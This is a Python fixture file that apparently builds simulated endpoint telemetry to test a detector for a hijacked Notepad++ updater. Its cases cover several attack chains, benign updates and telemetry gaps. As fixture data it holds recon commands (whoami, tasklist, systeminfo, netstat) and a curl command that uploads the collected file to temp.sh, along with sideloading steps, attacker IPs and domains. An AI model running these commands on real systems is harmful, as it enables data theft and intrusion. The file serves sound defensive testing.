# Read by tools/pack_stories.py; its words are in tools/pack_stories/tell.py.
PROGRAM = "C:\\Program Files\\Notepad++\\"
EDITOR, GUP, EXPLORER = PROGRAM + "notepad++.exe", PROGRAM + "updater\\GUP.exe", "C:\\Windows\\explorer.exe"
TEMP, ROAMING = "C:\\Users\\user1\\AppData\\Local\\Temp\\", "C:\\Users\\user1\\AppData\\Roaming\\"
CMD, CURL, CHROME = "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\curl.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
UPDATE1, UPDATE3 = "8e6e505438c21f3d281e1cc257abdbf7223b7f5a", "d7ffd7b588880cf61b603346a3557e7cce648c93"
EMPTY, PROSHOW = "da39a3ee5e6b4b0d3255bfef95601890afd80709", "defb05d5a91e4920c9e22de2d81c5dc9b95a9a7c"


def editor(day, version="8.8.5"):
    return [installed(f"{day} 08:00", "Notepad++ (64-bit x64)", version), start(f"{day} 09:00", EDITOR, version, "Notepad++", "Don HO")]


def asks(day):
    return [start(f"{day} 09:00:10", GUP, command=f'"{GUP}" -v8.85 -px64', parent=EDITOR), ask(f"{day} 09:00:11", "notepad-plus-plus.org", GUP)]


def updates(day, version="8.8.6"):      # as the vendor means it
    return [ask(f"{day} 09:00:20", "github.com", GUP), ask(f"{day} 09:00:21", "objects.githubusercontent.com", GUP), write(f"{day} 09:00:30", f"{TEMP}npp.{version}.Installer.x64.exe", GUP),
            start(f"{day} 09:00:40", f"{TEMP}npp.{version}.Installer.x64.exe", parent=GUP), start(f"{day} 09:01:40", EXPLORER, command=f'"{EXPLORER}" "{EDITOR}"', parent=GUP)]


def hijacked(day, address="45.76.155.202", name="update.exe", digest=""):
    return [connect(f"{day} 09:00:20", address, GUP), write(f"{day} 09:00:25", TEMP + name, GUP), start(f"{day} 09:00:30", TEMP + name, digest=digest, parent=GUP)]


def reports(day, *commands, file="a.txt", by="update.exe"):
    return [*[start(f"{day} 09:01:{n:02}", CMD, command="cmd /c " + c, parent=TEMP + by) for n, c in enumerate(commands)],
            start(f"{day} 09:01:30", CURL, command=f'curl.exe -F "file=@{file}" -s https://temp.sh/upload', parent=TEMP + by), ask(f"{day} 09:01:31", "temp.sh", CURL)]


AFTER = {"recon": NO, "loader": NO, "implant": NO, "hands": NO}

# Nobody saw June: what asked in July may have asked then.
EXPOSED, WATCHED = {"asked": YES, "poisoned": CANNOT, "installer": CANNOT, "hands": CANNOT}, {"asked": YES, "poisoned": CANNOT, "installer": NO} | AFTER

case("chain 1, late July: one machine, most only asked", "2025-07-27", "2025-08-01",
     host("CHAIN-1", *editor("2025-07-29"), *asks("2025-07-29"), *hijacked("2025-07-29", digest=UPDATE1), *reports("2025-07-29", "whoami&&tasklist > 1.txt", file="1.txt"),
          write("2025-07-29 09:03", ROAMING + "ProShow\\load", TEMP + "update.exe"), start("2025-07-29 09:03:10", ROAMING + "ProShow\\ProShow.exe", digest=PROSHOW, parent=TEMP + "update.exe"),
          ask("2025-07-29 09:10", "cdncheck.it.com", ROAMING + "ProShow\\ProShow.exe"),
          want={"asked": YES, "poisoned": YES, "installer": YES, "recon": YES, "loader": YES, "implant": YES, "hands": CANNOT}),
     *[host(f"WS-{n:02}", *editor("2025-07-28"), *asks("2025-07-29"), *updates("2025-07-29"), want=EXPOSED) for n in range(1, 4)],
     host("WS-30", want=None),
     joined=("installer", ("process", "GUP.exe"), ("process", "update.exe")), flagged=1)

case("chain 2, mid-September", "2025-09-15", "2025-09-20",
     host("CHAIN-2", *editor("2025-09-17"), *asks("2025-09-17"), *hijacked("2025-09-17"), *reports("2025-09-17", '"whoami&&tasklist&&systeminfo&&netstat -ano" > a.txt'),
          write("2025-09-17 09:03", ROAMING + "Adobe\\Scripts\\alien.ini", TEMP + "update.exe"),
          start("2025-09-17 09:03:10", ROAMING + "Adobe\\Scripts\\script.exe", command=f"{ROAMING}Adobe\\Scripts\\script.exe {ROAMING}Adobe\\Scripts\\alien.ini", parent=TEMP + "update.exe"),
          want={"asked": YES, "poisoned": YES, "installer": YES, "recon": YES, "loader": YES, "implant": CANNOT}),
     host("WS-01", *editor("2025-09-16"), *asks("2025-09-17"), want=EXPOSED))

case("chain 3, October: no report, and a person", "2025-10-05", "2025-10-22",
     host("CHAIN-3", *editor("2025-10-07"), *asks("2025-10-07"), *hijacked("2025-10-07", "45.32.144.255", digest=UPDATE3), write("2025-10-07 09:02", ROAMING + "Bluetooth\\log.dll", TEMP + "update.exe"),
          start("2025-10-07 09:02:10", ROAMING + "Bluetooth\\BluetoothService.exe", parent=TEMP + "update.exe"), load("2025-10-07 09:02:11", ROAMING + "Bluetooth\\log.dll", ROAMING + "Bluetooth\\BluetoothService.exe"),
          ask("2025-10-07 09:05", "api.skycloudcenter.com", ROAMING + "Bluetooth\\BluetoothService.exe"),
          start("2025-10-20 11:00", "C:\\ProgramData\\USOShared\\svchost.exe", command="C:\\ProgramData\\USOShared\\svchost.exe -nostdlib -run conf.c", parent=CMD),
          want={"asked": YES, "poisoned": YES, "installer": YES, "recon": CANNOT, "loader": YES, "implant": YES, "hands": YES}))

case("the vendor's own updates, its plugins, and namesakes", "2025-07-31", "2025-08-05",
     host("PLUGIN-01", *editor("2025-08-01"), start("2025-08-01 10:00", GUP, command=f'"{GUP}" -unzipTo "{EDITOR}" "C:\\Program Files\\Notepad++\\plugins" "https://example.org/a.zip"', parent=EDITOR),
          write("2025-08-01 10:00:20", TEMP + "a.zip", GUP), start("2025-08-01 10:01", EXPLORER, command=f'"{EXPLORER}" "{EDITOR}"', parent=GUP), want=EXPOSED),
     host("USER-01", *editor("2025-08-01"), *asks("2025-08-02"), *updates("2025-08-02"), start("2025-08-03 10:00", CMD, command="cmd /c whoami&&tasklist > 1.txt", parent=EXPLORER), ask("2025-08-03 10:01", "temp.sh", CHROME),
          write("2025-08-03 10:02", "C:\\Tools\\ProShow.exe", EXPLORER, PROSHOW), write("2025-08-03 10:03", TEMP + "empty.txt", EXPLORER, EMPTY), write("2025-08-03 10:04", TEMP + "ns.tmp", EXPLORER), want=EXPOSED),
     host("NONE-01", ask("2025-08-03 10:00", "notepad-plus-plus.org", CHROME), ask("2025-08-03 10:01", "temp.sh", CHROME), write("2025-08-03 10:02", TEMP + "update.exe", CHROME),
          start("2025-08-03 10:03", TEMP + "update.exe", parent=CHROME), start("2025-08-03 10:04", "C:\\Program Files\\Example\\BluetoothService.exe"),
          write("2025-08-03 10:05", "C:\\ProgramData\\USOShared\\Logs\\helper.dll", CHROME), write("2025-08-03 10:06", "C:\\ProgramData\\USOShared\\tool.exe", CHROME),
          start("2025-08-03 10:07", "C:\\Tools\\GUP\\gup.exe", parent=EXPLORER), load("2025-08-03 10:07:10", "C:\\Tools\\GUP\\libcurl.dll", "C:\\Tools\\GUP\\gup.exe"), want=None))

case("the forum's report, as of 2025-12-10: behaviours and no hash", "2025-10-18", "2025-10-24",
     host("FORUM-01", *editor("2025-10-19"), *asks("2025-10-20"), *hijacked("2025-10-20", "95.179.213.0", "AutoUpdater.exe"),
          *reports("2025-10-20", "netstat -ano >> a.txt", "systeminfo >> a.txt", "tasklist >> a.txt", "whoami >> a.txt", by="AutoUpdater.exe"),
          want={"installer": YES, "recon": YES, "loader": (CANNOT, "no_test"), "implant": (CANNOT, "no_test")}),
     as_of="2025-12-10")

case("the whole window is watched", "2025-05-31", "2025-12-05",
     host("QUIET-01", *editor("2025-06-01"), only=("defender",), want={"asked": NO, "poisoned": NO, "installer": NO} | AFTER),
     host("WS-01", *editor("2025-06-01"), *asks("2025-07-29"), *updates("2025-07-29"), *asks("2025-10-07"), only=("defender", "winlogbeat"), want=WATCHED),
     host("PLUGIN-01", *editor("2025-06-01"), start("2025-08-01 10:00", GUP, command=f'"{GUP}" -unzipTo "{EDITOR}" "C:\\Program Files\\Notepad++\\plugins" "https://example.org/a.zip"', parent=EDITOR),
          write("2025-08-01 10:00:20", TEMP + "a.zip", GUP), start("2025-08-01 10:01", EXPLORER, command=f'"{EXPLORER}" "{EDITOR}"', parent=GUP), only=("defender",), want=WATCHED),
     host("CHAIN-1", *editor("2025-06-01"), *asks("2025-07-29"), *hijacked("2025-07-29", digest=UPDATE1), only=("defender",), want={"asked": YES, "poisoned": YES, "installer": YES, "recon": CANNOT, "loader": CANNOT}))

case("before the window, and after it", "2025-05-20", "2025-06-02",
     host("EARLY-01", *editor("2025-05-21", "8.7.9"), *asks("2025-05-21"), *updates("2025-05-21", "8.8.0"), want={"asked": NO, "installer": NO}), exit=0)
case("an updater that asks after the window", "2025-12-04", "2025-12-20",
     host("LATE-01", *editor("2025-12-10", "8.8.9"), *asks("2025-12-11"), *updates("2025-12-11", "8.9.0"), want={"asked": CANNOT}), exit=2)

case("blind to processes, blind to names", "2025-07-27", "2025-08-02",
     host("BLIND-01", *editor("2025-07-28"), *asks("2025-07-29"), *hijacked("2025-07-29", digest=UPDATE1), lost=["process", "module", "file", "registry"],
          want={"asked": YES, "poisoned": YES, "installer": CANNOT, "recon": CANNOT, "loader": CANNOT}),
     host("BLIND-02", *editor("2025-07-28"), *asks("2025-07-29"), lost=["dns", "network"], want=EXPOSED),
     host("BLIND-03", installed("2025-07-28 08:00", "Notepad++ (64-bit x64)", "8.8.5"), lost=["process", "dns", "network", "file", "module"], want={"asked": CANNOT, "installer": CANNOT}))
